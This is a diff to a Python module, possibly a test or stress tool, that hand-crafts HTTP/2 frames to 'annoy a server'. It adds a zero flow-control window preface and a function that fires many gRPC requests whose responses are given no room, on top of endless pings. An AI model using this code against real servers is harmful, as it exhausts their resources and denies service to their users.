@@ -1,4 +1,4 @@
-"""As much of HTTP/2 (RFC 9113) as it takes to annoy a server: what a client begins with, and pings without end."""
+"""As much of HTTP/2 (RFC 9113) as it takes to annoy a server: pings without end, and answers that are not taken."""
 
 import socket
 import struct
@@ -7,6 +7,9 @@ from typing import Final
 
 START: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
 """The preface, and settings that set nothing."""
+_NO_WINDOW: Final = START[:-9] + b"\x00\x00\x06\x04\x00\x00\x00\x00\x00" + b"\x00\x04\x00\x00\x00\x00"
+"""The preface, and settings by which nothing of a stream's data may be sent."""
+_END_HEADERS, _END_STREAM = 0x4, 0x1
 _PING: Final = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00epistrea"
 _GOAWAY: Final = 7
 _INITIAL_WINDOW_SIZE: Final = 4
@@ -33,6 +36,27 @@ def ping_until_sent_away(connection: socket.socket, until: float = float("inf"))
     except OSError:
         return b""
     return None
+
+
+def call_without_room(connection: socket.socket, path: str, host: str, count: int) -> None:
+    """Make so many unary gRPC calls with an empty request, whole, and give none of the answers room."""
+    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": host}
+    fields |= {"te": "trailers", "content-type": "application/grpc"}
+    head = b"".join(b"\0" + _string(name) + _string(value) for name, value in fields.items())
+    frames = [_NO_WINDOW]
+    for number in range(count):
+        stream = 2 * number + 1
+        frames += [_frame(0x1, _END_HEADERS, stream, head), _frame(0x0, _END_STREAM, stream, bytes(5))]
+    connection.sendall(b"".join(frames))
+
+
+def _string(text: str) -> bytes:
+    """As HPACK has it, RFC 7541, when it is shorter than 127 bytes and not compressed."""
+    return bytes([len(text)]) + text.encode()
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
 def initial_window_bytes(connection: socket.socket) -> int | None:
